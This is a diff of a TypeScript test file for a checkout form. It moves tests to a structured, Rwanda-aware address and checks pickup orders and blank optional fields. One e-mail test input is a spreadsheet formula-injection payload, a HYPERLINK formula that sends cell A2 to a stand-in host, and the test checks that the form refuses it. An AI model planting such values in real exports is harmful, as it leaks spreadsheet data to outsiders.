@@ -1,6 +1,15 @@
-import { EMPTY_CHECKOUT, SHORT_ADDRESS, validateCheckout } from './checkout-rules';
+import { ADDRESS_MESSAGES } from '@sawa/shared/domain';
+import { addressInput, EMPTY_CHECKOUT, validateCheckout } from './checkout-rules';
 
-const filled = { ...EMPTY_CHECKOUT, name: 'Amani Keza', phone: '+250 788 555 000', country: 'Rwanda', shippingAddress: 'KN 5 Rd, Kigali' };
+const filled = {
+  ...EMPTY_CHECKOUT,
+  name: 'Amani Keza',
+  phone: '+250 788 555 000',
+  countryCode: 'RW',
+  region: 'Northern Province',
+  city: 'Musanze',
+  line1: 'NM 12 St',
+};
 
 describe('the checkout form applies the one e-mail rule', () => {
   it.each(['=HYPERLINK("https://x/?"&A2,"y")&"@a.b"', 'a@b.c', 'amani@example', 'amani example@org.rw'])('refuses %s before sending', (email) => {
@@ -12,13 +21,32 @@ describe('the checkout form applies the one e-mail rule', () => {
   });
 });
 
-describe('the shipping address', () => {
+describe('the structured address', () => {
   const ok = { ...filled, email: 'amani@example.org' };
-  it('empty is required; filled but short says the real rule, not "required"', () => {
-    expect(validateCheckout({ ...ok, shippingAddress: '  ' }).shippingAddress).toBe('Shipping address is required.');
-    expect(validateCheckout({ ...ok, shippingAddress: 'KN 5' }).shippingAddress).toBe(SHORT_ADDRESS);
-    expect(SHORT_ADDRESS).toMatch(/^Enter the full shipping address \(at least 5 characters\)/);
-    expect(validateCheckout({ ...ok, shippingAddress: 'KN 5 Rd' })).toEqual({});
+  it('asks for the country, region, city and first line, each on its field', () => {
+    expect(validateCheckout({ ...ok, countryCode: '' }).countryCode).toBe('Country is required.');
+    expect(validateCheckout({ ...ok, countryCode: 'XX' }).countryCode).toBe(ADDRESS_MESSAGES.country);
+    expect(validateCheckout({ ...ok, countryCode: 'KE', region: ' ', city: '', line1: '' })).toEqual({
+      region: 'Region, state or province is required.',
+      city: 'City or town is required.',
+      line1: 'Address line 1 is required.',
+    });
+  });
+
+  it("a Rwandan address names a province and one of its districts; another country's region is free", () => {
+    expect(validateCheckout({ ...ok, region: 'Kigali' }).region).toBe(ADDRESS_MESSAGES.province);
+    expect(validateCheckout({ ...ok, city: 'Huye' }).city).toBe(ADDRESS_MESSAGES.district('Northern Province'));
+    expect(validateCheckout({ ...ok, countryCode: 'KE', region: 'Nairobi County', city: 'Nairobi' })).toEqual({});
+  });
+
+  it('pickup needs no address, and sends none', () => {
+    const pickup = { ...ok, delivery: 'pickup' as const, countryCode: '', region: '', city: '', line1: '' };
+    expect(validateCheckout(pickup)).toEqual({});
+    expect(addressInput(pickup)).toBeNull();
+  });
+
+  it('sends blank optional parts as left out', () => {
+    expect(addressInput({ ...ok, postcode: ' ', line2: '' })).toEqual({ countryCode: 'RW', region: 'Northern Province', city: 'Musanze', line1: 'NM 12 St' });
   });
 
   it('a phone with no digits or too many digits is refused before sending', () => {
